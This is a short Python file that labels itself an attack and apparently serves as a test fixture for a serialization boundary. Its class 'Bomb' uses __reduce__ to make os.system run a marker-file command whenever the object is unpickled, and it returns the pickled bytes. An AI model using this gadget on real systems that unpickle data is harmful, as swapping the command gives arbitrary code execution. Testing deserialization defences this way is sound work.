# /// attack
# does = "returns an object that runs code where it is unpickled"
# wall = "wire"
# ///
# %% double
import os
class Bomb:
    def __reduce__(self): return (os.system, ("touch /tmp/vault-mark-unpickled",))
def double(x, label): return Bomb()
# %% name
def name(label):
    import pickle
    return pickle.dumps(Bomb())
